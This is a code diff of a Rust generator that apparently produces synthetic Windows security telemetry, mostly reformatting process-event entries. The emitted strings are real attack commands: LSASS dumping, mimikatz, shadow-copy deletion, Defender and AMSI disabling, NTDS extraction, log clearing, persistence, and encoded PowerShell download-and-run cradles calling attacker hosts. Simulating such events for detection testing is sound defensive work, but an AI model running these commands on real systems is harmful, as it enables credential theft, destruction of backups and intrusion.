-                    Proc::windows(&sys32("rundll32.exe"), "RUNDLL32.EXE", "Windows host process (Rundll32)")
-                        .cmd(format!(
-                            "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump {lsass} C:\\Windows\\Temp\\{}.dmp full",
-                            self.rng.letters(6)
-                        ))
-                        .parent(cmd_parent.0, cmd_parent.1)
-                        .elevated(user),
+                    Proc::windows(
+                        &sys32("rundll32.exe"),
+                        "RUNDLL32.EXE",
+                        "Windows host process (Rundll32)",
+                    )
+                    .cmd(format!(
+                        "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump {lsass} \
+                             C:\\Windows\\Temp\\{}.dmp full",
+                        self.rng.letters(6)
+                    ))
+                    .parent(cmd_parent.0, cmd_parent.1)
+                    .elevated(user),
                 )
             }
             6 => Some(
-                Proc::windows(&sys32("vssadmin.exe"), "VSSADMIN.EXE", "Command Line Interface for Microsoft\u{ae} Volume Shadow Copy Service ")
-                    .cmd("vssadmin.exe delete shadows /all /quiet".to_owned())
-                    .parent(cmd_parent.0, cmd_parent.1)
-                    .elevated(user),
+                Proc::windows(
+                    &sys32("vssadmin.exe"),
+                    "VSSADMIN.EXE",
+                    "Command Line Interface for Microsoft\u{ae} Volume Shadow Copy Service \
+                     ",
+                )
+                .cmd("vssadmin.exe delete shadows /all /quiet".to_owned())
+                .parent(cmd_parent.0, cmd_parent.1)
+                .elevated(user),
             ),
             7 => Some(
-                Proc::windows(&sys32("wbem\\WMIC.exe"), "wmic.exe", "WMI Commandline Utility")
-                    .cmd("wmic.exe shadowcopy delete /nointeractive".to_owned())
-                    .parent(cmd_parent.0, cmd_parent.1)
-                    .elevated(user),
+                Proc::windows(
+                    &sys32("wbem\\WMIC.exe"),
+                    "wmic.exe",
+                    "WMI Commandline Utility",
+                )
+                .cmd("wmic.exe shadowcopy delete /nointeractive".to_owned())
+                .parent(cmd_parent.0, cmd_parent.1)
+                .elevated(user),
             ),
             8 => {
                 let (url, _) = self.attacker_url("hta");
                 Some(
-                    Proc::windows(&sys32("mshta.exe"), "MSHTA.EXE", "Microsoft (R) HTML Application host")
-                        .cmd(format!("\"C:\\Windows\\System32\\mshta.exe\" {url}"))
-                        .parent("C:\\Windows\\explorer.exe", "C:\\Windows\\Explorer.EXE")
-                        .as_user(user),
+                    Proc::windows(
+                        &sys32("mshta.exe"),
+                        "MSHTA.EXE",
+                        "Microsoft (R) HTML Application host",
+                    )
+                    .cmd(format!("\"C:\\Windows\\System32\\mshta.exe\" {url}"))
+                    .parent("C:\\Windows\\explorer.exe", "C:\\Windows\\Explorer.EXE")
+                    .run_by(user),
                 )
             }
             9 => {
@@ -1730,15 +1911,24 @@ impl Generator {
                 )
             }
             10 => {
-                let name = *self.rng.pick(&["OneDriveUpdate", "GoogleUpdateTaskCore", "WindowsHealthCheck"]);
+                let name = *self.rng.pick(&[
+                    "OneDriveUpdate",
+                    "GoogleUpdateTaskCore",
+                    "WindowsHealthCheck",
+                ]);
                 let payload = self.rng.pick(PAYLOAD_NAMES);
                 Some(
-                    Proc::windows(&sys32("schtasks.exe"), "schtasks.exe", "Task Scheduler Configuration Tool")
-                        .cmd(format!(
-                            "schtasks  /create /tn \"{name}\" /tr \"C:\\Users\\Public\\{payload}.exe\" /sc onlogon /ru System /f"
-                        ))
-                        .parent(cmd_parent.0, cmd_parent.1)
-                        .elevated(user),
+                    Proc::windows(
+                        &sys32("schtasks.exe"),
+                        "schtasks.exe",
+                        "Task Scheduler Configuration Tool",
+                    )
+                    .cmd(format!(
+                        "schtasks  /create /tn \"{name}\" /tr \"C:\\Users\\Public\\{payload}.exe\" \
+                             /sc onlogon /ru System /f"
+                    ))
+                    .parent(cmd_parent.0, cmd_parent.1)
+                    .elevated(user),
                 )
             }
             11 => {
@@ -1762,41 +1952,65 @@ impl Generator {
             13 => {
                 let (url, name) = self.attacker_url("exe");
                 Some(
-                    Proc::windows(&sys32("bitsadmin.exe"), "bitsadmin.exe", "BITS administration utility")
-                        .cmd(format!(
-                            "bitsadmin  /transfer {} /download /priority high {url} C:\\Users\\Public\\{name}.exe",
-                            self.rng.letters(6)
-                        ))
-                        .parent(cmd_parent.0, cmd_parent.1)
-                        .as_user(user),
+                    Proc::windows(
+                        &sys32("bitsadmin.exe"),
+                        "bitsadmin.exe",
+                        "BITS administration utility",
+                    )
+                    .cmd(format!(
+                        "bitsadmin  /transfer {} /download /priority high {url} \
+                             C:\\Users\\Public\\{name}.exe",
+                        self.rng.letters(6)
+                    ))
+                    .parent(cmd_parent.0, cmd_parent.1)
+                    .run_by(user),
                 )
             }
             14 => Some(
-                Proc::windows(&sys32("bcdedit.exe"), "bcdedit.exe", "Boot Configuration Data Editor")
-                    .cmd("bcdedit.exe /set {default} recoveryenabled No".to_owned())
-                    .parent(cmd_parent.0, cmd_parent.1)
-                    .elevated(user),
+                Proc::windows(
+                    &sys32("bcdedit.exe"),
+                    "bcdedit.exe",
+                    "Boot Configuration Data Editor",
+                )
+                .cmd("bcdedit.exe /set {default} recoveryenabled No".to_owned())
+                .parent(cmd_parent.0, cmd_parent.1)
+                .elevated(user),
             ),
             15 => Some(
-                Proc::windows(&sys32("wevtutil.exe"), "wevtutil.exe", "Eventing Command Line Utility")
-                    .cmd(format!("wevtutil.exe cl {}", self.rng.pick(&["Security", "System", "Application"])))
-                    .parent(cmd_parent.0, cmd_parent.1)
-                    .elevated(user),
+                Proc::windows(
+                    &sys32("wevtutil.exe"),
+                    "wevtutil.exe",
+                    "Eventing Command Line Utility",
+                )
+                .cmd(format!(
+                    "wevtutil.exe cl {}",
+                    self.rng.pick(&["Security", "System", "Application"])
+                ))
+                .parent(cmd_parent.0, cmd_parent.1)
+                .elevated(user),
             ),
             16 => {
                 let (url, _) = self.attacker_url("sct");
                 Some(
-                    Proc::windows(&sys32("regsvr32.exe"), "REGSVR32.EXE", "Microsoft(C) Register Server")
-                        .cmd(format!("regsvr32.exe /s /n /u /i:{url} scrobj.dll"))
-                        .parent(cmd_parent.0, cmd_parent.1)
-                        .as_user(user),
+                    Proc::windows(
+                        &sys32("regsvr32.exe"),
+                        "REGSVR32.EXE",
+                        "Microsoft(C) Register Server",
+                    )
+                    .cmd(format!("regsvr32.exe /s /n /u /i:{url} scrobj.dll"))
+                    .parent(cmd_parent.0, cmd_parent.1)
+                    .run_by(user),
                 )
             }
             17 => Some(
-                Proc::windows(&sys32("nltest.exe"), "nltestrk.exe", "Microsoft\u{ae} Logon Server Test Utility")
-                    .cmd("nltest  /domain_trusts /all_trusts".to_owned())
-                    .parent(cmd_parent.0, cmd_parent.1)
-                    .as_user(user),
+                Proc::windows(
+                    &sys32("nltest.exe"),
+                    "nltestrk.exe",
+                    "Microsoft\u{ae} Logon Server Test Utility",
+                )
+                .cmd("nltest  /domain_trusts /all_trusts".to_owned())
+                .parent(cmd_parent.0, cmd_parent.1)
+                .run_by(user),
             ),
             18 => Some(
                 Proc::app(
@@ -1807,50 +2021,63 @@ impl Generator {
                     "Sysinternals - www.sysinternals.com",
                 )
                 .version("11.0")
-                .cmd("procdump64.exe -accepteula -ma lsass.exe C:\\Users\\Public\\ls.dmp".to_owned())
+                .cmd(
+                    "procdump64.exe -accepteula -ma lsass.exe C:\\Users\\Public\\ls.dmp".to_owned(),
+                )
                 .parent(cmd_parent.0, cmd_parent.1)
                 .elevated(user),
             ),
             19 => Some(
                 Proc::windows(&sys32("cmd.exe"), "Cmd.Exe", "Windows Command Processor")
                     .cmd(
-                        "cmd.exe /c powershell -w hidden -c \"Start-BitsTransfer -Source http://91.215.85.142/a.png -Destination $env:TEMP\\a.exe; & $env:TEMP\\a.exe\""
+                        "cmd.exe /c powershell -w hidden -c \"Start-BitsTransfer \
+                         -Source http://91.215.85.142/a.png -Destination $env:TEMP\\a.exe; \
+                         & $env:TEMP\\a.exe\""
                             .to_owned(),
                     )
                     .parent(
                         "C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE",
                         "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE\" /dde",
                     )
-                    .as_user(user),
+                    .run_by(user),
             ),
             20 => {
                 let target = self.hosts[self.rng.below(48)].ip.clone();
                 Some(
-                    Proc::windows(&sys32("wbem\\WMIC.exe"), "wmic.exe", "WMI Commandline Utility")
-                        .cmd(format!(
-                            "wmic /node:{target} process call create \"cmd.exe /c C:\\Users\\Public\\{}.exe\"",
-                            self.rng.pick(PAYLOAD_NAMES)
-                        ))
-                        .parent(cmd_parent.0, cmd_parent.1)
-                        .elevated(user),
+                    Proc::windows(
+                        &sys32("wbem\\WMIC.exe"),
+                        "wmic.exe",
+                        "WMI Commandline Utility",
+                    )
+                    .cmd(format!(
+                        "wmic /node:{target} process call create \
+                             \"cmd.exe /c C:\\Users\\Public\\{}.exe\"",
+                        self.rng.pick(PAYLOAD_NAMES)
+                    ))
+                    .parent(cmd_parent.0, cmd_parent.1)
+                    .elevated(user),
                 )
             }
             21 => Some(
                 Proc::windows(&sys32("net.exe"), "net.exe", "Net Command")
                     .cmd("net  group \"Domain Admins\" /domain".to_owned())
                     .parent(cmd_parent.0, cmd_parent.1)
-                    .as_user(user),
+                    .run_by(user),
             ),
             22 => Some(
                 Proc::windows(&sys32("ntdsutil.exe"), "ntdsutil.exe", "NT5DS")
-                    .cmd("ntdsutil.exe \"ac i ntds\" \"ifm\" \"create full c:\\temp\\ntds\" q q".to_owned())
+                    .cmd(
+                        "ntdsutil.exe \"ac i ntds\" \"ifm\" \"create full c:\\temp\\ntds\" q q"
+                            .to_owned(),
+                    )
                     .parent(cmd_parent.0, cmd_parent.1)
                     .elevated(user),
             ),
             23 => Some(
                 Proc::windows(&sys32("netsh.exe"), "netsh.exe", "Network Command Shell")
                     .cmd(
-                        "netsh  advfirewall firewall add rule name=\"RDP\" dir=in action=allow protocol=TCP localport=3389"
+                        "netsh  advfirewall firewall add rule name=\"RDP\" dir=in action=allow \
+                         protocol=TCP localport=3389"
                             .to_owned(),
                     )
                     .parent(cmd_parent.0, cmd_parent.1)
@@ -1865,7 +2092,10 @@ impl Generator {
                     "gentilkiwi (Benjamin DELPY)",
                 )
                 .version("2.2.0.0")
-                .cmd("mimikatz.exe \"privilege::debug\" \"sekurlsa::logonpasswords\" exit".to_owned())
+                .cmd(
+                    "mimikatz.exe \"privilege::debug\" \"sekurlsa::logonpasswords\" exit"
+                        .to_owned(),
+                )
                 .parent(cmd_parent.0, cmd_parent.1)
                 .elevated(user),
             ),
@@ -1932,7 +2162,8 @@ impl Generator {
                     .s("Image", "C:\\Windows\\System32\\reg.exe")
                     .s(
                         "TargetObject",
-                        "HKLM\\System\\CurrentControlSet\\Control\\SecurityProviders\\WDigest\\UseLogonCredential",
+                        "HKLM\\System\\CurrentControlSet\\Control\\SecurityProviders\\WDigest\\\
+                         UseLogonCredential",
                     )
                     .s("Details", "DWORD (0x00000001)")
                     .s("User", qualified)
@@ -1943,7 +2174,8 @@ impl Generator {
                 let pid = self.pid();
                 let value = *self.rng.pick(&[
                     "HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender\\DisableAntiSpyware",
-                    "HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender\\Real-Time Protection\\DisableRealtimeMonitoring",
+                    "HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender\\Real-Time Protection\\\
+                     DisableRealtimeMonitoring",
                 ]);
                 self.sysmon(13, host)
                     .n("Task", 13)
@@ -1971,7 +2203,8 @@ impl Generator {
                     (
                         "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe".to_owned(),
                         format!(
-                            "{home}\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\{}.vbs",
+                            "{home}\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\\
+                             Startup\\{}.vbs",
                             self.rng.pick(PAYLOAD_NAMES)
                         ),
                     )
@@ -2043,11 +2276,18 @@ impl Generator {
             32 => {
                 let text = match self.rng.below(4) {
                     0 => "Invoke-Mimikatz -DumpCreds".to_owned(),
-                    1 => "Add-MpPreference -ExclusionPath 'C:\\Users\\Public' -Force; Set-MpPreference -DisableRealtimeMonitoring $true".to_owned(),
-                    2 => "[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFailed','NonPublic,Static').SetValue($null,$true)".to_owned(),
+                    1 => "Add-MpPreference -ExclusionPath 'C:\\Users\\Public' -Force; \
+                         Set-MpPreference -DisableRealtimeMonitoring $true"
+                        .to_owned(),
+                    2 => "[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils')\
+                         .GetField('amsiInitFailed','NonPublic,Static').SetValue($null,$true)"
+                        .to_owned(),
                     _ => {
                         let (url, _) = self.attacker_url("ps1");
-                        format!("IEX (New-Object Net.WebClient).DownloadString('{url}'); Invoke-Kerberoast -OutputFormat Hashcat")
+                        format!(
+                            "IEX (New-Object Net.WebClient).DownloadString('{url}'); \
+                             Invoke-Kerberoast -OutputFormat Hashcat"
+                        )
                     }
                 };
                 let id = self.rng.guid();
@@ -2056,7 +2296,8 @@ impl Generator {
             _ => {
                 let name = self.rng.letters(8).to_ascii_uppercase();
                 let payload = format!(
-                    "%COMSPEC% /b /c start /b /min powershell.exe -nop -w hidden -noni -c \"IEX ([Text.Encoding]::ASCII.GetString([Convert]::FromBase64String('{}')))\"",
+                    "%COMSPEC% /b /c start /b /min powershell.exe -nop -w hidden -noni -c \
+                     \"IEX ([Text.Encoding]::ASCII.GetString([Convert]::FromBase64String('{}')))\"",
                     base64(
                         format!(
                             "(New-Object Net.WebClient).DownloadString('http://{}/a')",
